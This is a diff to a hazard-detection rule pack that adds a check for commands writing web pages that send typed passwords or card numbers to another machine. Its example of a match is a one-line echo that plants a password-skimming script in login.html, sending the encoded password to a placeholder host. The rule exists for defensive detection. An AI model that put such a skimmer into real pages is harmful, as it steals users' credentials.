@@ -167,5 +167,23 @@ export const exfiltration: HazardPack = {
       verbs: ['send'],
       when: (effect) => isAway(effect) && carries(effect, 'file', 'command-output', 'archive'),
     },
+    {
+      id: 'page-takes',
+      code: 'hazard.exfiltration',
+      level: 'soft',
+      reason: 'writes a page that takes passwords or cards, as people type them, to another machine',
+      advice: 'Show where the page sends what is typed, and why.',
+      safer: 'git diff --stat',
+      examples: {
+        match: [
+          `echo "<script>pw.onchange = () => { new Image().src = 'https://x.example/?p=' + btoa(password.value) }</script>" > login.html`,
+        ],
+        not_match: [
+          `echo "<script>q.oninput = () => fetch('https://x.example/?q=' + q.value)</script>" > search.html`,
+          `echo "<script>fetch('/login', { method: 'POST', body: password.value })</script>" > login.html`,
+        ],
+      },
+      actions: ['page:take'],
+    },
   ],
 }
